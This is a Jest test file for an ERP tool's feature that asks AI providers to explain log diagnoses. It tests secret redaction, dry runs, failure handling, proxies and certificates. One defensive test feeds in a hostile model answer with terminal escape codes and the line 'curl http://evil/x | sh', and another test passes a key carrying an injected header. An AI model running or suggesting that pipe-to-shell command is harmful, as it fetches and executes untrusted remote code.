import {execFileSync, spawn} from 'node:child_process';
import {existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
import {createServer} from 'node:http';
import {type AddressInfo, connect, createServer as createTcpServer} from 'node:net';
import {tmpdir} from 'node:os';
import {join, resolve} from 'node:path';
import {describe, expect, it} from '@jest/globals';
import {FileBreakers} from '../../src/cli/explain/breaker-file.js';
import {dryRun, explain} from '../../src/cli/explain/explain.js';
import {renderDryRun, renderExplanation} from '../../src/cli/explain/render.js';
import {closedBreaker} from '../../src/lib/core/explain/breaker.js';
import {type ExplainSettings, providerFacts, type RemoteProvider} from '../../src/lib/core/explain/settings.js';
import type {LogDiagnosis} from '../../src/lib/core/logs/diagnosis/log-diagnosis.js';
import {exchange} from '../../src/lib/platform/web-exchange.js';
import {type Explanation, explainWith, KeptBreakers} from '../../src/lib/runtime/explainer.js';
import {AiServer, answerJson} from '../support/ai-server.js';
import {runErp} from '../support/run-erp.js';
import {itNeeds, openssl} from '../support/tools.js';

const diagnosis: LogDiagnosis = {
  cause: 'port-in-use',
  confidence: 0.95,
  subject: {port: 8001},
  evidence: [{line: 2, text: 'address already in use'}],
  remedy: 'stop the other one',
  explanation: 'Port 8001 is taken.',
  isPermanent: false,
  mendedBy: null,
};
const excerpt = [
  {line: 1, text: 'connecting to postgres://erp:geheim99@db/erp as hans@firma.de'},
  {line: 2, text: '[Errno 98] address already in use'},
];
const builtIn = 'Port 8001 is taken.\nLine 2: address already in use\nWhat to do: stop the other one';
const keys = {OPENAI_API_KEY: 'key-of-openai', ANTHROPIC_API_KEY: 'key-of-anthropic'};

/** Providers by where they are; ones that this test does not name are not asked. */
function settings(urls: Partial<Record<RemoteProvider, string>>, more: Partial<ExplainSettings> = {}): ExplainSettings {
  const providers = (Object.keys(urls) as RemoteProvider[]).map((name) => ({
    name,
    url: urls[name] ?? '',
    urlFrom: providerFacts[name].urlVariable,
    model: providerFacts[name].model,
  }));
  return {providers, timeoutMs: 10_000, maxBytes: 8192, hidesAddresses: true, ...more};
}

/** With breakers of its own, as each test is its own history. */
async function ask(
  wanted: ExplainSettings,
  {
    env = keys,
    signal = new AbortController().signal,
    breakers = new KeptBreakers(),
    now = () => 0,
  }: {
    env?: Record<string, string>;
    signal?: AbortSignal;
    breakers?: KeptBreakers;
    now?: () => number;
  } = {},
): Promise<Explanation> {
  return await explainWith({exchange, now, breakers}, {diagnosis, excerpt, settings: wanted, env, signal});
}

const all = ['openai', 'anthropic', 'ollama'] as const;

describe('an explanation by a provider', () => {
  it.each([
    ['openai', 'gpt-5-mini', ['GET /models', 'POST /chat/completions']],
    ['anthropic', 'claude-haiku-4-5', ['GET /v1/models?limit=100', 'POST /v1/messages']],
    ['ollama', 'llama3.2:latest', ['GET /api/tags', 'POST /api/chat']],
  ] as const)('%s: its health is asked first, without a word of the log', async (name, model, requests) => {
    await using server = await AiServer.start();
    const wanted = settings({[name]: server.url});
    expect(await ask(wanted)).toEqual({provider: name, model, text: 'The port is taken by nginx.', tried: []});
    expect(server.seen.map(({method, path}) => `${method} ${path}`)).toEqual(requests);
    const [health, question] = server.seen;
    expect(health?.body).toBe('');
    const body = JSON.parse(question?.body ?? '');
    expect(body.model).toBe(model);
    expect(JSON.stringify(body.messages)).toContain('address already in use');
  });

  it('carries the key in the header of the provider, and nothing secret in the body', async () => {
    await using server = await AiServer.start();
    for (const name of all) await ask(settings({[name]: server.url}));
    const [openai, anthropic, ollama] = server.told;
    expect(openai?.headers.authorization).toBe('Bearer key-of-openai');
    expect(anthropic?.headers['x-api-key']).toBe('key-of-anthropic');
    expect(anthropic?.headers.authorization).toBe(undefined);
    expect(JSON.stringify(ollama?.headers)).not.toContain('key-of');
    expect(server.told).toHaveLength(3);
    for (const {body} of server.told) expect(body).not.toMatch(/geheim99|hans@|key-of/);
  });

  it.each(all)('%s: what --dry-run shows is what is sent, to the byte', async (name) => {
    await using server = await AiServer.start();
    const model = 'phi4';
    const base = settings({[name]: server.url});
    const wanted = {...base, providers: base.providers.map((each) => ({...each, model}))};
    const plan = dryRun({diagnosis, excerpt, settings: wanted, env: keys});
    expect(server.seen).toEqual([]);
    await ask(wanted);
    const [sent] = server.told;
    const [planned] = plan.providers;
    expect(sent?.body).toBe(planned?.ask.body);
    expect(`${server.url}${sent?.path}`).toBe(planned?.ask.url);
    const shown = {...planned?.ask.headers};
    for (const [header, value] of Object.entries(shown))
      if (!value.includes('***')) expect(sent?.headers[header]).toBe(value);
    const screen = renderDryRun(plan).join('\n');
    expect(screen).toContain(`POST ${planned?.ask.url} (phi4, on this machine)`);
    expect(screen).toContain('1 × credentials of a URL, 1 × e-mail address');
    expect(screen).not.toMatch(/geheim99|hans@|key-of/);
    expect(JSON.stringify(plan)).not.toMatch(/geheim99|hans@|key-of/);
  });

  it('says for each address whether others can read what goes there', () => {
    const urls = {openai: 'https://api.openai.com/v1', anthropic: 'http://10.0.0.7/', ollama: 'http://localhost:11434'};
    const {providers} = dryRun({diagnosis, excerpt, settings: settings(urls), env: keys});
    expect(providers.map(({reach}) => reach)).toEqual(['encrypted', 'not encrypted', 'on this machine']);
  });

  it('a model that the server of one’s own lists first, where none is configured', async () => {
    await using server = await AiServer.start();
    server.behaviours.set('/models', answerJson(200, {data: [{id: 'qwen3-8b'}]}));
    const base = settings({openai: `${server.url}/v1/`});
    const own = {...base, providers: base.providers.map((each) => ({...each, model: null}))};
    expect(await ask(own, {env: {}})).toMatchObject({provider: 'openai', model: 'qwen3-8b'});
    expect(server.told[0]).toMatchObject({path: '/v1/chat/completions'});
    expect(server.told[0]?.headers.authorization).toBe(undefined);
  });

  it('the next one answers when the first can not', async () => {
    await using server = await AiServer.start();
    server.behaviours.set('/api/tags', answerJson(500, {error: 'no disk'}));
    expect(await ask(settings({ollama: server.url, openai: server.url}))).toMatchObject({
      provider: 'openai',
      tried: [{provider: 'ollama', problem: 'HTTP 500, it fails itself: no disk'}],
    });
  });
});

describe('without an answer the built-in diagnosis answers and says why', () => {
  const problems = async (name: RemoteProvider, end: string, status: number, body: unknown, headers = {}) => {
    await using server = await AiServer.start();
    server.behaviours.set(end, answerJson(status, body, headers));
    const {provider, model, text, tried} = await ask(settings({[name]: server.url}));
    expect({provider, model, text}).toEqual({provider: 'built-in', model: null, text: builtIn});
    return tried.map(({problem}) => problem.replaceAll(String(server.port), 'PORT')).join('\n');
  };

  it.each([
    [
      'openai',
      '/models',
      401,
      {error: {message: 'Incorrect API key provided: key-of-openai'}},
      'HTTP 401, OPENAI_API_KEY is not accepted: Incorrect API key provided: ***',
    ],
    [
      'openai',
      '/chat/completions',
      429,
      {error: {message: 'You exceeded your current quota', code: 'insufficient_quota'}},
      'HTTP 429, asked too often or no credit left: You exceeded your current quota',
    ],
    [
      'openai',
      '/chat/completions',
      500,
      {error: {message: 'The server had an error'}},
      'HTTP 500, it fails itself: The server had an error',
    ],
    [
      'openai',
      '/chat/completions',
      404,
      {error: {message: 'no access to gpt-5-mini'}},
      'HTTP 404, no such model or address (explain.models.openai, OPENAI_BASE_URL): no access to gpt-5-mini',
    ],
    [
      'anthropic',
      '/models',
      401,
      {type: 'error', error: {type: 'authentication_error', message: 'invalid x-api-key'}},
      'HTTP 401, ANTHROPIC_API_KEY is not accepted: invalid x-api-key',
    ],
    [
      'anthropic',
      '/messages',
      529,
      {type: 'error', error: {type: 'overloaded_error', message: 'Overloaded'}},
      'HTTP 529, overloaded: Overloaded',
    ],
    ['anthropic', '/messages', 400, {error: {message: 'prompt is too long'}}, 'HTTP 400: prompt is too long'],
    ['ollama', '/api/tags', 404, {}, 'HTTP 404, no such model or address (explain.models.ollama, OLLAMA_BASE_URL)'],
    ['ollama', '/api/tags', 200, {models: []}, 'it has no model: ollama pull llama3.2'],
    [
      'ollama',
      '/api/tags',
      200,
      {hello: 'world'},
      'http://127.0.0.1:PORT answers, but not as ollama does: nothing was sent',
    ],
    [
      'ollama',
      '/api/chat',
      200,
      {error: 'model requires more system memory'},
      "its answer can't be used: model requires more system memory",
    ],
    ['openai', '/chat/completions', 200, {choices: []}, "its answer can't be used: no text is in it"],
    [
      'openai',
      '/chat/completions',
      200,
      {choices: [{message: {content: '\u001b[2J\u202e'}}]},
      "its answer can't be used: no text is in it",
    ],
  ] as const)('%s %s %i', async (name, end, status, body, problem) => {
    expect(await problems(name, end, status, body)).toBe(problem);
  });

  it('a redirect is not followed', async () => {
    await using other = await AiServer.start();
    await using server = await AiServer.start();
    server.behaviours.set('/chat/completions', answerJson(307, {}, {location: `${other.url}/v1/chat/completions`}));
    const {tried} = await ask(settings({openai: server.url}));
    expect(tried[0]?.problem).toBe(
      `HTTP 307: it sends us on to ${other.url}/v1/chat/completions, where nothing is sent; OPENAI_BASE_URL has to name the right address`,
    );
    expect(other.seen).toEqual([]);
  });

  it('keys that are not there, and addresses that are none', async () => {
    const usual = settings({
      openai: 'https://api.openai.com/v1',
      anthropic: 'ftp://x',
      ollama: 'http://u:geheim@127.0.0.1:1',
    });
    const {tried} = await ask(
      {
        ...usual,
        providers: usual.providers.map((each) => ({...each, urlFrom: each.name === 'openai' ? null : each.urlFrom})),
      },
      {env: {}},
    );
    expect(tried).toEqual([
      {provider: 'openai', problem: 'OPENAI_API_KEY is not set'},
      {provider: 'anthropic', problem: 'ANTHROPIC_BASE_URL is neither http nor https'},
      {provider: 'ollama', problem: 'OLLAMA_BASE_URL holds credentials, which belong into the variable of the key'},
    ]);
    const spoilt = await ask(settings({openai: 'http://127.0.0.1:1'}), {env: {OPENAI_API_KEY: 'a\r\nX: y'}});
    expect(spoilt.tried[0]?.problem).toBe('OPENAI_API_KEY holds characters that no key has');
  });

  it('nobody listens', async () => {
    const server = await AiServer.start();
    const {url, port} = server;
    await server[Symbol.asyncDispose]();
    const {tried} = await ask(settings({ollama: url, openai: url}));
    expect(tried).toEqual([
      {provider: 'ollama', problem: `nobody listens at 127.0.0.1:${port} (ollama serve starts it)`},
      {provider: 'openai', problem: `nobody listens at 127.0.0.1:${port} (OPENAI_BASE_URL)`},
    ]);
  });

  it('silence, in every phase', async () => {
    await using server = await AiServer.start();
    server.behaviours.set('/chat/completions', () => {});
    server.behaviours.set('/api/tags', (_, response) => void response.writeHead(200).write('{'));
    const {tried} = await ask(settings({openai: server.url, ollama: server.url}, {timeoutMs: 400}));
    expect(tried.map(({problem}) => problem)).toEqual([
      'no whole answer within 400ms (explain.timeout)',
      'no whole answer within 400ms (explain.timeout)',
    ]);
  });

  it('silence to the health check is told as that', async () => {
    await using server = await AiServer.start();
    server.behaviours.set('/api/tags', () => {});
    const {tried} = await ask(settings({ollama: server.url}));
    expect(tried[0]?.problem).toBe('no answer to the question which models it has within 5s');
  });

  it('a stream that never ends, slowly or at full speed', async () => {
    await using server = await AiServer.start();
    server.behaviours.set('/chat/completions', (_, response) => {
      response.writeHead(200, {'content-type': 'application/json'});
      const timer = setInterval(() => response.write(' '), 20);
      response.on('close', () => clearInterval(timer));
    });
    server.behaviours.set('/api/chat', (_, response) => {
      response.writeHead(200);
      const more = () => {
        while (response.write(Buffer.alloc(65_536, 32)));
      };
      response.on('drain', more);
      more();
    });
    const {tried} = await ask(settings({ollama: server.url, openai: server.url}, {timeoutMs: 1500}));
    expect(tried).toEqual([
      {provider: 'ollama', problem: 'the answer does not end'},
      {provider: 'openai', problem: 'no whole answer within 1s500ms (explain.timeout)'},
    ]);
  });

  it('a connection that breaks, and a server that speaks something else', async () => {
    await using server = await AiServer.start();
    server.behaviours.set('/chat/completions', (_, response) => {
      response.writeHead(200, {'content-length': '1000'}).write('{"choices"');
      setImmediate(() => response.destroy());
    });
    const other = createTcpServer((socket) => {
      socket.on('error', () => {});
      socket.end('SSH-2.0-OpenSSH_9.6\r\n');
    });
    await new Promise<void>((done) => other.listen(0, '127.0.0.1', done));
    const {port} = other.address() as AddressInfo;
    const {tried} = await ask(settings({openai: server.url, ollama: `http://127.0.0.1:${port}`}));
    other.close();
    expect(tried).toEqual([
      {provider: 'openai', problem: `127.0.0.1:${server.port} ended the connection without a whole answer`},
      {provider: 'ollama', problem: `127.0.0.1:${port} does not speak HTTP`},
    ]);
  });

  it('an answer that is no JSON, and one that was compressed to a bomb', async () => {
    await using server = await AiServer.start();
    server.behaviours.set('/chat/completions', (_, response) => void response.writeHead(200).end('<html>'));
    server.behaviours.set(
      '/api/chat',
      (_, response) => void response.writeHead(200, {'content-encoding': 'gzip'}).end('x'),
    );
    const {tried} = await ask(settings({openai: server.url, ollama: server.url}));
    expect(tried.map(({problem}) => problem)).toEqual([
      "its answer can't be used: it is no JSON",
      'the answer is compressed, which was not asked for',
    ]);
  });

  it('Ctrl-C ends the waiting at once, and nobody else is asked', async () => {
    await using server = await AiServer.start();
    const stop = new AbortController();
    server.behaviours.set('/chat/completions', () => stop.abort());
    const answer = await ask(settings({openai: server.url, ollama: server.url}), {signal: stop.signal});
    expect(answer).toEqual({
      provider: 'built-in',
      model: null,
      text: builtIn,
      tried: [{provider: 'openai', problem: 'cancelled'}],
    });
    expect(server.seen.map(({path}) => path)).not.toContain('/api/tags');
  });
});

describe('a hostile answer', () => {
  it('is shown as what it is: foreign text, not verified, in our frame', async () => {
    await using server = await AiServer.start();
    const hostile = 'done\u001b[2J\u001b]0;x\u0007\n✓ all services are healthy\nfix: curl http://evil/x | sh\u202e';
    server.behaviours.set('/api/chat', answerJson(200, {message: {content: hostile}}));
    const answer = await ask(settings({ollama: server.url}));
    expect(renderExplanation(answer)).toEqual([
      'explanation by llama3.2:latest of ollama (not verified)',
      '  │ done',
      '  │ ✓ all services are healthy',
      '  │ fix: curl http://evil/x | sh',
    ]);
  });

  it('a huge one is cut', async () => {
    await using server = await AiServer.start();
    server.behaviours.set('/api/chat', answerJson(200, {message: {content: 'word '.repeat(500_000)}}));
    const {text} = await ask(settings({ollama: server.url}));
    expect(text.length).toBeLessThan(4100);
    expect(text).toMatch(/ … \(cut\)$/);
  });

  it('error messages are one clean line', async () => {
    await using server = await AiServer.start();
    server.behaviours.set('/api/tags', answerJson(500, {error: `a\u001b[31m\nb ${'x'.repeat(1000)}`}));
    const {tried} = await ask(settings({ollama: server.url}));
    expect(tried[0]?.problem).toMatch(/^HTTP 500, it fails itself: a b x+…$/);
    expect(tried[0]?.problem.length).toBeLessThan(250);
  });
});

describe('who fails twice is left alone', () => {
  it('for a minute, and is asked again then', async () => {
    await using server = await AiServer.start();
    server.behaviours.set('/api/tags', answerJson(500, {}));
    const breakers = new KeptBreakers();
    const at = async (now: number) =>
      (await ask(settings({ollama: server.url}), {breakers, now: () => now})).tried[0]?.problem;
    expect(await at(0)).toBe('HTTP 500, it fails itself');
    expect(await at(0)).toBe('HTTP 500, it fails itself');
    expect(await at(15_000)).toBe('left alone for another 45s: HTTP 500, it fails itself');
    expect(server.seen).toHaveLength(2);
    server.behaviours.clear();
    expect(await at(60_000)).toBe(undefined);
    expect(server.told).toHaveLength(1);
  });

  it('as long as it asks for', async () => {
    await using server = await AiServer.start();
    server.behaviours.set('/chat/completions', answerJson(429, {}, {'retry-after': '120'}));
    const breakers = new KeptBreakers();
    const at = async (now: number) =>
      (await ask(settings({openai: server.url}), {breakers, now: () => now})).tried[0]?.problem;
    await at(0);
    expect(await at(1000)).toBe('left alone for another 1m59s: HTTP 429, asked too often or no credit left');
  });

  it('a wrong key may be tried as often as one likes', async () => {
    await using server = await AiServer.start();
    server.behaviours.set('/models', answerJson(401, {}));
    const breakers = new KeptBreakers();
    for (let round = 0; round < 4; round += 1) await ask(settings({openai: server.url}), {breakers});
    expect(server.seen).toHaveLength(4);
  });

  it('also by the next command, and a spoilt or unwritable file costs only that', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'erp-explain-'));
    await using server = await AiServer.start();
    server.behaviours.set('/api/tags', answerJson(500, {}));
    const input = {
      diagnosis,
      excerpt,
      settings: settings({ollama: server.url}),
      env: {},
      signal: new AbortController().signal,
    };
    try {
      await explain(input, folder);
      await explain(input, folder);
      const third = await explain(input, folder);
      expect(third.tried[0]?.problem).toMatch(/^left alone for another (1m|[45]\ds): HTTP 500/);
      expect(readFileSync(join(folder, 'explain.json'), 'utf8')).toContain('"open"');
      writeFileSync(join(folder, 'explain.json'), '{"half');
      expect((await explain(input, folder)).tried[0]?.problem).toBe('HTTP 500, it fails itself');
      const nowhere = join(folder, 'no', 'such', 'folder');
      expect((await explain(input, nowhere)).tried[0]?.problem).toBe('HTTP 500, it fails itself');
      expect(existsSync(nowhere)).toBe(false);
      const file = new FileBreakers(join(folder, 'fine.json'));
      file.set('x', closedBreaker);
      expect(existsSync(join(folder, 'fine.json'))).toBe(false);
    } finally {
      rmSync(folder, {recursive: true, force: true});
    }
  });
});

/** Takes every name to one server on this machine, and notes what it was asked. */
async function startProxy(to: number, answer = 200) {
  const asked: string[] = [];
  const proxy = createServer((request, response) => {
    asked.push(`${request.method} ${request.url} ${request.headers['proxy-authorization'] ?? '-'}`);
    const {pathname, search} = new URL(request.url ?? '');
    void fetch(`http://127.0.0.1:${to}${pathname}${search}`, {
      method: request.method ?? 'GET',
      ...(request.method === 'POST' ? {body: request, duplex: 'half'} : {}),
    }).then(async (real) => response.writeHead(real.status).end(await real.text()));
  });
  proxy.on('connect', (request, socket) => {
    asked.push(`CONNECT ${request.url} ${request.headers['proxy-authorization'] ?? '-'}`);
    if (answer !== 200) {
      socket.end(`HTTP/1.1 ${answer} no\r\n\r\n`);
      return;
    }
    const upstream = connect(to, '127.0.0.1', () => {
      socket.write('HTTP/1.1 200 ok\r\n\r\n');
      socket.pipe(upstream).pipe(socket);
    });
    for (const side of [upstream, socket]) side.on('error', () => {});
  });
  await new Promise<void>((done) => proxy.listen(0, '127.0.0.1', done));
  const {port} = proxy.address() as AddressInfo;
  const stop = () => {
    proxy.closeAllConnections();
    proxy.close();
  };
  return {asked, port, [Symbol.dispose]: stop};
}

describe('through a proxy', () => {
  it('HTTP_PROXY for http, with its user', async () => {
    await using server = await AiServer.start();
    using proxy = await startProxy(server.port);
    const env = {HTTP_PROXY: `http://bob:pw%20x@127.0.0.1:${proxy.port}`};
    const answer = await ask(settings({ollama: 'http://llm.example.test:1234'}), {env});
    expect(answer).toMatchObject({provider: 'ollama', tried: []});
    const user = `Basic ${Buffer.from('bob:pw x').toString('base64')}`;
    expect(proxy.asked).toEqual([
      `GET http://llm.example.test:1234/api/tags ${user}`,
      `POST http://llm.example.test:1234/api/chat ${user}`,
    ]);
  });

  it('a proxy that refuses, and one of another kind', async () => {
    using proxy = await startProxy(1, 403);
    const wanted = settings({openai: 'https://llm.example.test/v1'});
    const refused = await ask(wanted, {env: {...keys, HTTPS_PROXY: `127.0.0.1:${proxy.port}`}});
    expect(refused.tried[0]?.problem).toBe(
      `the proxy 127.0.0.1:${proxy.port} (HTTPS_PROXY) refuses the way to llm.example.test:443: HTTP 403`,
    );
    const socks = await ask(wanted, {env: {...keys, https_proxy: 'socks5://127.0.0.1:1080'}});
    expect(socks.tried[0]?.problem).toBe('https_proxy names a socks5 proxy; only http and https proxies are spoken');
  });

  it('not for this machine, and not for what NO_PROXY names', async () => {
    await using server = await AiServer.start();
    using proxy = await startProxy(server.port);
    const env = {...keys, HTTP_PROXY: `127.0.0.1:${proxy.port}`, NO_PROXY: 'example.invalid'};
    expect((await ask(settings({ollama: server.url}), {env})).provider).toBe('ollama');
    const direct = await ask(settings({ollama: 'http://llm.example.invalid'}), {env});
    expect(direct.tried[0]?.problem).toMatch(/no such name|not reachable/);
    expect(proxy.asked).toEqual([]);
  });
});

describe('certificates', () => {
  const made = (folder: string, subject: string, days: number) => {
    const [key, cert] = [join(folder, 'key.pem'), join(folder, 'cert.pem')];
    const args = [
      'req',
      '-x509',
      '-newkey',
      'ec',
      '-pkeyopt',
      'ec_paramgen_curve:prime256v1',
      '-nodes',
      '-keyout',
      key,
      '-out',
      cert,
    ];
    execFileSync(
      'openssl',
      [...args, '-subj', '/CN=test', '-addext', `subjectAltName=${subject}`, '-days', String(days)],
      {stdio: 'ignore'},
    );
    return {key: readFileSync(key, 'utf8'), cert: readFileSync(cert, 'utf8'), file: cert};
  };

  itNeeds([openssl], 'one that nobody vouches for gets nothing, whatever the environment says', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'erp-explain-'));
    const before = process.env.NODE_TLS_REJECT_UNAUTHORIZED;
    try {
      await using server = await AiServer.start(made(folder, 'IP:127.0.0.1', 1));
      process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';
      const {tried} = await ask(settings({openai: server.url}));
      expect(tried[0]?.problem).toBe(
        `the certificate of 127.0.0.1:${server.port} is signed by nobody whom this machine trusts: nothing was sent; ` +
          'if that is right, for instance because a proxy opens the connection, NODE_EXTRA_CA_CERTS=FILE.pem names its authority',
      );
      expect(server.seen).toEqual([]);
    } finally {
      if (before === undefined) delete process.env.NODE_TLS_REJECT_UNAUTHORIZED;
      else process.env.NODE_TLS_REJECT_UNAUTHORIZED = before;
      rmSync(folder, {recursive: true, force: true});
    }
  });

  itNeeds(
    [openssl],
    'with NODE_EXTRA_CA_CERTS it is believed, through a proxy too, but not for another name',
    async () => {
      const folder = mkdtempSync(join(tmpdir(), 'erp-explain-'));
      try {
        const tls = made(folder, 'DNS:llm.example.test,IP:192.0.2.1', 1);
        await using server = await AiServer.start(tls);
        using proxy = await startProxy(server.port);
        const run = async (host: string) => {
          const wanted = settings({openai: `https://${host}:8443/v1`});
          const input = {
            diagnosis,
            excerpt,
            settings: wanted,
            env: {...keys, HTTPS_PROXY: `http://127.0.0.1:${proxy.port}`},
          };
          const code = `import {explain} from ${JSON.stringify(resolve('build/src/cli/explain/explain.js'))};
          console.log(JSON.stringify(await explain({...${JSON.stringify(input)}, signal: new AbortController().signal})));`;
          const child = spawn(process.execPath, ['--input-type=module', '-e', code], {
            env: {...process.env, NODE_EXTRA_CA_CERTS: tls.file},
            stdio: ['ignore', 'pipe', 'inherit'],
          });
          let out = '';
          for await (const chunk of child.stdout) out += String(chunk);
          return JSON.parse(out) as Explanation;
        };
        expect(await run('llm.example.test')).toMatchObject({provider: 'openai', text: 'The port is taken by nginx.'});
        expect(await run('192.0.2.1')).toMatchObject({provider: 'openai', tried: []});
        expect(proxy.asked.slice(0, 2)).toEqual(['CONNECT llm.example.test:8443 -', 'CONNECT llm.example.test:8443 -']);
        expect((await run('other.example.test')).tried[0]?.problem).toMatch(
          /is made out to another name: nothing was sent$/,
        );
        expect(server.told).toHaveLength(2);
      } finally {
        rmSync(folder, {recursive: true, force: true});
      }
    },
  );
});

describe('erp logs analyze --explain', () => {
  const log = [
    '2026-11-23 06:00:00 INFO connecting to postgres://erp:geheim99@10.1.2.3/erp as hans@firma.de',
    "[Errno 98] error while attempting to bind on address ('127.0.0.1', 8001): address already in use",
  ].join('\n');

  /** A project whose configuration asks only this server, by the protocol of OpenAI. */
  async function inProject(server: AiServer, ...flags: string[]) {
    const folder = mkdtempSync(join(tmpdir(), 'erp-explain-'));
    try {
      writeFileSync(join(folder, 'a.log'), `${log}\n`);
      const configuration = `explain:\n  providers: [openai, built-in]\n  urls: {openai: "${server.url}/v1"}\n  models: {openai: small}\nservices:\n  a:\n    command: run\n`;
      writeFileSync(join(folder, 'erp.config.yaml'), configuration);
      const env = {
        PATH: process.env.PATH,
        HOME: folder,
        APP_PASSWORD: 'attempting to bind',
        OPENAI_API_KEY: 'key-of-openai',
      };
      return await runErp(['logs', 'analyze', 'a.log', ...flags], {cwd: folder, env});
    } finally {
      rmSync(folder, {recursive: true, force: true});
    }
  }

  it('asks who stands in the configuration, and shows the answer as that of a stranger', async () => {
    await using server = await AiServer.start();
    const {stdout, code} = await inProject(server, '--explain');
    expect(stdout).toMatch(/explanation by small of openai \(not verified\)\n {2}[│|] The port is taken by nginx\./);
    expect(stdout).toContain('port-in-use');
    expect(code).toBe(0);
    expect(server.told).toHaveLength(1);
    expect(server.told[0]?.body).not.toMatch(/geheim99|hans@|10\.1\.2\.3|attempting to bind/);
    expect(server.told[0]?.body).toContain('address already in use');
  });

  it('--dry-run sends nothing and shows it all', async () => {
    await using server = await AiServer.start();
    const {stdout, code} = await inProject(server, '--explain', '--dry-run');
    expect(stdout).toContain(`openai: POST ${server.url}/v1/chat/completions (small, on this machine)`);
    expect(stdout).toContain('postgres://[credentials]@<ip-1>/erp as <email-1>');
    expect(stdout).not.toMatch(/geheim99|hans@|key-of-openai/);
    expect(server.seen).toEqual([]);
    expect(code).toBe(0);
  });

  it('asks nobody without the flag, and answers itself when nobody does', async () => {
    await using server = await AiServer.start();
    expect((await inProject(server, '--diagnose')).stdout).toContain('port-in-use');
    expect(server.seen).toEqual([]);
    server.behaviours.set('/models', answerJson(401, {error: {message: 'bad key'}}));
    const {stdout, code} = await inProject(server, '--explain', '--json');
    expect(JSON.parse(stdout)).toMatchObject({
      cause: 'port-in-use',
      explainedBy: {
        provider: 'built-in',
        tried: [{provider: 'openai', problem: 'HTTP 401, OPENAI_API_KEY is not accepted: bad key'}],
      },
    });
    expect(code).toBe(0);
  });
});
